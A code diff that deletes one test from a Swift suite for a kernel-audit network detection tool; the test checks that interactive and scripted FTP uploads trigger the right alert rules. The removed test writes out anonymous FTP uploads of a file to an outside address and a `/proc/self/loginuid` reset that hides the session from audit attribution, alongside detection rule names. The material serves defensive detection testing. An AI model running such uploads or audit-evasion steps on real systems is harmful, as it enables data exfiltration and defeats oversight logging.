@@ -94,27 +94,6 @@ extension KernelAuditTests.FlowEndToEnd {
         expectOneAlertPerRuleAndSubject(alerts)
     }
 
-    @Test func aPersonAtATerminalIsNotAutomation() throws {
-        let file = try randomFile("typed.bin", bytes: 100_000)
-        let commands = try commandsFile("typed.ftp", ["user anonymous x", "put \(file) upload/typed.bin", "quit"])
-        let script = try commandsFile("job.sh", ["ftp -n -p 203.0.113.10 < \(commands) > /dev/null"])
-        let agent = try startAgent()
-        let typed = try client("/usr/bin/script", ["-qefc", "sh -c 'echo 0 > /proc/self/loginuid; exec ftp -n -p 203.0.113.10'", "/dev/null"],
-                               stdin: FileHandle(forReadingAtPath: commands))
-        _ = try client("/bin/bash", [script])
-        let flows = try stop(agent, expecting: 2).map(FlowView.init)
-        let alerts = try readAlerts()
-        let person = try #require(flows.first { $0.interactive == true }, "\(flows.map(\.reasons))")
-        let scripted = try #require(flows.first { $0.interactive == false })
-        let personAlerts = alerts.filter { $0.pid == person.pid }
-        #expect(!personAlerts.contains { $0.rule == "an1170.noninteractive_transfer" || $0.rule == "ftp.scripted" }, "\(personAlerts.map(\.rule))")
-        #expect(personAlerts.contains { $0.rule == "ftp.internet" }, "FTP to the Internet is still FTP to the Internet")
-        #expect(personAlerts.allSatisfy { $0.json["process.interactive"] as? Bool == true })
-        let automated = Set(alerts.filter { $0.pid == scripted.pid }.map(\.rule))
-        #expect(automated.isSuperset(of: ["an1170.noninteractive_transfer", "ftp.scripted", "ftp.internet"]))
-        _ = typed
-    }
-
     @Test func exclusionsForKnownJobs() throws {
         let file = try randomFile("backup.tar.gz", bytes: 200_000)
         let runner = work + "/gitlab-runner"
